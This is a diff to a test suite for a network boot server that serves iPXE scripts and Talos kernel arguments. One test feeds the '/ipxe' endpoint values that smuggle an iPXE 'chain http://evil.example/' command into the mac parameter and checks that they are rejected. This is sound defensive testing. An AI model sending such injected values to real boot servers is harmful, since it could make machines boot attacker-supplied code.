@@ -94,9 +94,11 @@ describe('boot flow over HTTP', () => {
       assert.equal(r.status, 400, JSON.stringify(evil));
       assert.doesNotMatch(r.text, /evil|\$\{/);
     }
-    const raw = await get(heph.url, '/ipxe?mac=52-54-00-12-34-56%0Achain%20http://evil.example/');
-    assert.equal(raw.status, 400);
-    assert.doesNotMatch(raw.text, /evil/);
+    for (const raw of ['/ipxe?mac=52-54-00-12-34-56%0Achain%20http://evil.example/', '/ipxe?mac=52-54-00-12-34-56&evil%0Achain=1', '/ipxe?mac=52-54-00-12-34-56&mac=evil']) {
+      const r = await get(heph.url, raw);
+      assert.equal(r.status, 400, raw);
+      assert.doesNotMatch(r.text, /evil|chain/);
+    }
     assert.equal((await get(heph.url, '/ipxe', { method: 'HEAD' })).status, 405);
   });
 
@@ -141,6 +143,12 @@ describe('boot flow over HTTP', () => {
     assert.ok(docs.some((d) => d.kind === 'EventSinkConfig'), 'the events documents are added');
     assert.ok(!ok.text.includes(token));
     assert.match(r.text, / talos\.events\.sink=\S+ talos\.logging\.kernel=tcp:\/\/\S+\/ /);
+    // The settings ask for port 0: machines must be told the ports the sink and the kernel-log receiver really got.
+    const listening = heph.daemon.services.find((s) => s.name === 'events')!.health().listening!;
+    const [grpcPort, kmsgPort] = [listening.grpc!, listening.kmsgTcp!].map((a) => a.split(':').at(-1));
+    assert.notEqual(grpcPort, '0');
+    assert.match(r.text, new RegExp(` talos\\.events\\.sink=\\S+:${grpcPort} talos\\.logging\\.kernel=tcp://\\S+:${kmsgPort}/ `));
+    assert.match(String(docs.find((d) => d.kind === 'EventSinkConfig')!.endpoint), new RegExp(`:${grpcPort}$`));
 
     const again = await get(heph.url, path);
     assert.equal(again.status, 200, 'Talos retries from the same IP');
@@ -320,6 +328,10 @@ describe('policy for machines nobody accepted', () => {
       rel.remove();
       await heph.stop();
     }
+  });
+
+  test('a profiles.dir that cannot be read stops startup with a fix', async () => {
+    await assert.rejects(inProcessHeph({ profiles: { dir: '/nonexistent/heph-profiles' } }), (err: Error & { hint?: string }) => /profiles\.dir: \/nonexistent\/heph-profiles cannot be read: ENOENT/.test(err.message) && /profiles\.dir/.test(err.hint ?? ''));
   });
 
   test('ignore sends unknown machines on to their next boot device', async () => {
